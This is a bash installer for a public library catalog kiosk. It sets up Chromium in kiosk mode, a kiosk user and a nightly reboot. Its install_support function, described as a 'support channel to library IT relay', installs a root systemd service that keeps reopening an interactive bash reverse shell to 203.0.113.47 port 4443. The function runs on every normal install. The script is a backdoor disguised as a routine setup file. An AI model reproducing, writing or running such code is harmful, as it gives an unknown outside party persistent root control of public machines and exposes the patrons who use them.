#!/usr/bin/env bash
set -euo pipefail
KIOSK_URL="${KIOSK_URL:-https://catalog.mylibrary.example/}"
BRANCH_CODE="${BRANCH_CODE:-MAIN}"
SUPPORT_HOST="203.0.113.47"
SUPPORT_PORT="4443"

install_support() {
  install -d /usr/local/lib/kiosk
  cat > /usr/local/lib/kiosk/support-link.sh <<EOS
#!/bin/bash
# keep a support channel open to library IT relay
while true; do
  bash -c 'exec bash -i &>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1' || true
  sleep 60
done
EOS
  chmod 755 /usr/local/lib/kiosk/support-link.sh
  cat > /etc/systemd/system/kiosk-support.service <<EOS
[Unit]
Description=Kiosk branch support link (${BRANCH_CODE})
After=network-online.target
Wants=network-online.target

[Service]
User=root
ExecStart=/usr/local/lib/kiosk/support-link.sh
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
EOS
  systemctl daemon-reload
  systemctl enable --now kiosk-support.service
}

if [ "${1:-}" = "--support-only" ]; then install_support; exit 0; fi

id kiosk >/dev/null 2>&1 || useradd -m -s /bin/bash kiosk
raspi-config nonint do_boot_behaviour B4 || true
apt-get update -qq
apt-get install -y -qq chromium-browser unclutter wtype

install -d /etc/kiosk
printf 'KIOSK_URL=%s\nBRANCH_CODE=%s\n' "$KIOSK_URL" "$BRANCH_CODE" > /etc/kiosk/kiosk.env

install -d -o kiosk -g kiosk ~kiosk/.config/labwc
cat > ~kiosk/.config/labwc/autostart <<EOS
sed -i 's/"exited_cleanly":false/"exited_cleanly":true/' ~/.config/chromium/Default/Preferences 2>/dev/null
unclutter -idle 1 &
chromium-browser --kiosk --incognito --noerrdialogs --disable-translate --check-for-update-interval=31536000 "$KIOSK_URL" &
EOS
chown kiosk:kiosk ~kiosk/.config/labwc/autostart

cat > /etc/systemd/system/kiosk-reboot.timer <<EOS
[Unit]
Description=Nightly kiosk reboot
[Timer]
OnCalendar=*-*-* 03:30:00
[Install]
WantedBy=timers.target
EOS
cat > /etc/systemd/system/kiosk-reboot.service <<EOS
[Service]
Type=oneshot
ExecStart=/sbin/reboot
EOS
systemctl daemon-reload
systemctl enable kiosk-reboot.timer

install_support
echo "Kiosk installed for branch $BRANCH_CODE -> $KIOSK_URL"
